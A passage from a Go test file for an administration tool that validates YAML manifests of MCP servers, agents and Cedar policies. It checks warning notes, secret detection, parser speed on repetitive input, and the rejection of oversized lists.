	if err != nil || len(plain.Items[0].Dangers) != 0 {
		t.Errorf("dangers of a pinned package: %v %v", plain.Items[0].Dangers, err)
	}
}

func TestWhatDoesNotExistYetIsAcceptedWithANote(t *testing.T) {
	o := open(t)
	p := o.apply("kind: Agent\nid: a\nowner: ghosts\nexpires: 2001-01-31\ntools: [nowhere/*]\n---\nkind: Server\nid: s\nowner: ghosts\ntransport: {http: {url: http://h.example/mcp}}\ncredential: {ref: later, header: X-Key}\n")
	notes := strings.Join(append(p.Items[0].Notes, append(p.Items[1].Notes, p.Items[1].Dangers...)...), "\n")
	for _, w := range []string{`owner "ghosts" is not a registered team`, `server "nowhere" is not registered`, "expired at the end of 2001-01-31", `credential "later" is not stored yet`, "without encryption"} {
		if !strings.Contains(notes, w) {
			t.Errorf("no note says %q:\n%s", w, notes)
		}
	}
}

// A policy that cannot match anything yet applies, because its server may list
// the tool later; whoever applies it reads that it guards nothing now.
func TestPolicyThatMatchesNothingYetIsAppliedWithANote(t *testing.T) {
	o := open(t)
	o.apply(filesServer)
	o.listing("files", "read", "Read.")
	const text = `kind: Agent
id: a
owner: t
tools: ["files/write_*"]
---
kind: Policy
id: guard
cedar: |
  forbid (principal, action == Mcp::Action::"files/raed", resource)
  when { context.input.tag like "x*" };
`
	diff, err := o.Diff(t.Context(), doc(text))
	if err != nil {
		t.Fatal(err)
	}
	equal(t, "items of diff and apply", diff.Items, o.apply(text).Items)
	notes := strings.Join(append(diff.Items[0].Notes, diff.Items[1].Notes...), "\n")
	for _, w := range []string{`"files/write_*" covers none of the approved tools`, `m.yaml:9:1: server "files" has no approved tool "raed"`} {
		if !strings.Contains(notes, w) {
			t.Errorf("no note says %q:\n%s", w, notes)
		}
	}
	_, err = o.Apply(t.Context(), ann, doc("kind: Policy\nid: g\ncedar: |\n  forbid (principal, action in Mcp::Action::\"raed\", resource);\n"), false)
	hasCode(t, "a group that is none", err, access.CodeInvalid, `m.yaml:4`, "unknown action `raed`")
}

func TestSettingsThatAreNoSecretsPass(t *testing.T) {
	open(t).apply(`kind: Server
id: s
owner: t
transport:
  stdio:
    command: uvx
    args: ["server==1.0", "--token-file", "/run/secrets/token", "--max-tokens", "4096", "--keyboard", "german", "--format=extended", "a=b"]
    env: {LOG_LEVEL: debug, TOKEN_FILE: /run/token, MAX_TOKENS: "4096", MONKEY: "bananas-are-yellow", AUTHOR: "someone else", AUTH: "true", AUTH_MODE: required, TOKEN_URL: "https://idp.example/token", SORT_KEY: created_at, SESSION_TIMEOUT: 30minutes}
---
kind: Server
id: h
owner: t
transport: {http: {url: "https://h/mcp?profile=production&page=keyboards", headers: {X-Tenant: production-eu}}}
`)
}

func TestHostileYAMLTakesLinearTime(t *testing.T) {
	o := open(t)
	for _, p := range []string{"- ", "? ", "{", "[", "a: ", "[a,", "{a: ", "!", "'", "\"", "#\n", "a\n", "- a\n", "a: b\n", "\n", "&a ", "*a ", "{a}: ", "\t", "- |\n", "---\n", "%", "a, ", "{},"} {
		start := time.Now()
		if _, err := o.Apply(t.Context(), ann, doc("kind: Team\nx: "+strings.Repeat(p, (1<<18)/len(p))), false); err == nil {
			t.Errorf("%q is accepted", p)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("256 KiB of %q took %v", p, d)
		}
	}
}

// A list nobody could mean is one mistake, before anything is done for each entry.
func TestEndlessListsAreRefused(t *testing.T) {
	const n = 20_000
	entries := func(format, between string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, format+between, i)
		}
		return b.String()
	}
	for _, text := range []string{
		"kind: Team\nid: a\nmembers:\n" + entries("- m%d", "\n"),
		"kind: Agent\nid: a\nowner: t\ntools:\n" + entries("- s/m%d", "\n"),
		"kind: Agent\nid: a\nowner: t\nkeys:\n" + entries("- file: m%d", "\n"),
		"kind: Server\nid: a\nowner: t\ntransport: {stdio: {command: x, args: [" + entries("m%d", ",") + "]}}\n",
		"kind: Server\nid: a\nowner: t\ntransport: {stdio: {command: x, env: {" + entries("M%d: x", ",") + "}}}\n",
		"kind: Server\nid: a\nowner: t\ntransport: {http: {url: http://127.0.0.1:9, headers: {" + entries("M%d: x", ",") + "}}}\n",
		"kind: Team\nid: a\n" + entries("m%d: x", "\n"),
	} {
		_, err := admin.ParseReader("m.yaml", t.TempDir(), strings.NewReader(text))
		hasCode(t, text[:60], err, access.CodeInvalid)
		if ps := admin.ProblemsOf(err); !strings.Contains(ps[0].Msg, " than ") && !strings.Contains(ps[0].Msg, "at most 16") || len(ps) > 4 {
			t.Errorf("%q are %d mistakes, the first %v", text[:60], len(ps), ps[0])
		}
	}
	open(t).apply("kind: Team\nid: a\nmembers:\n" + strings.Join(strings.SplitAfter(entries("- m%d", "\n"), "\n")[:10_000], ""))
}
